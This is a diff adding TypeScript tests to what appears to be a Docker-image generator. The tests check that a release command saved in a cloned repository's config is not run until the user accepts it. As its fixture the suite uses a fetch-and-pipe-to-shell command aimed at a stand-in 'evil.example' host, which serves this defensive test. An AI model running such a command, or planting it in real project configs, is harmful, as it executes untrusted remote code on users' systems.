@@ -166,6 +166,71 @@ describe('a team config found in the project or a parent runs nothing until trus
   });
 });
 
+describe('a release command the repository brings runs only once you accept it (issue 20 item 6)', () => {
+  const EVIL = 'curl -fsS https://evil.example/x | sh';
+  const flask = {
+    'requirements.txt': 'flask\ngunicorn\n',
+    'app.py': 'from flask import Flask\napp = Flask(__name__)\n',
+  };
+  const savedRelease = (command: string) =>
+    JSON.stringify({ 'generator-slim-docker': { language: 'python', releaseCommand: command } });
+  const cloned = (command = EVIL) =>
+    writeTree(folder(tempDir('slim-release-'), 'app'), { ...flask, '.yo-rc.json': savedRelease(command) });
+
+  it('a saved release command nobody detected or gave: --yes refuses with one line naming --release-command (exit 2), nothing written', async () => {
+    const dir = cloned();
+    const before = treeHash(dir);
+    const message = await refused(
+      dir,
+      { yes: true },
+      2,
+      /^\.yo-rc\.json "releaseCommand": `curl -fsS https:\/\/evil\.example\/x \| sh` was not detected in this project and you have not accepted it here; .* Rerun with --release-command 'curl -fsS https:\/\/evil\.example\/x \| sh' to accept it, or --no-release-command$/,
+    );
+    assert.ok(message.includes(EVIL), 'shown whole');
+    assert.deepEqual(treeHash(dir), before, 'nothing written');
+  });
+
+  it('asked without --yes, shown whole: "no" drops it, "yes" keeps it and a re-run with --yes needs no flag', async () => {
+    const dropped = cloned();
+    const { asked } = await runApp(dropped, {}, { savedReleaseCommand: false });
+    assert.ok(asked.includes('savedReleaseCommand'), asked.join(', '));
+    assert.doesNotMatch(read(dropped, 'Dockerfile'), /evil\.example/);
+    const kept = cloned();
+    await runApp(kept, {}, { savedReleaseCommand: true });
+    assert.match(read(kept, 'Dockerfile'), /evil\.example/);
+    await runApp(kept, { yes: true, force: true });
+    assert.match(read(kept, 'Dockerfile'), /evil\.example/);
+  });
+
+  it("the user's own --release-command is recorded: the next run with --yes uses the saved value", async () => {
+    const dir = writeTree(folder(tempDir('slim-release-'), 'app'), flask);
+    await run(dir, { yes: true, releaseCommand: 'python seed.py' });
+    assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
+    await run(dir, { yes: true });
+    assert.match(read(dir, 'Dockerfile'), /python seed\.py/);
+    // The same saved value in another folder (a copied .yo-rc.json) is not accepted there.
+    await refused(cloned('python seed.py'), { yes: true }, 2, /--release-command 'python seed\.py'/);
+  });
+
+  it('a saved release command that detection finds runs on a re-run as before', async () => {
+    const dir = writeTree(folder(tempDir('slim-release-'), 'app'), {
+      ...flask,
+      'app.py':
+        'import click\nfrom flask import Flask\napp = Flask(__name__)\n\n@app.cli.command("init-db")\ndef init_db():\n    pass\n',
+      '.yo-rc.json': savedRelease('flask --app app init-db'),
+    });
+    // A user with no record at all.
+    const xdg = process.env.XDG_CONFIG_HOME;
+    process.env.XDG_CONFIG_HOME = tempDir('slim-gen-xdg-');
+    try {
+      await run(dir, { yes: true });
+    } finally {
+      process.env.XDG_CONFIG_HOME = xdg;
+    }
+    assert.match(read(dir, 'Dockerfile'), /flask --app app init-db && exec/);
+  });
+});
+
 describe("a user's source files are never overwritten", () => {
   it('--yes --force over an edited sample keeps app.py and requirements.txt as the user left them', async () => {
     const dir = folder(tempDir('slim-src-'), 'shop');
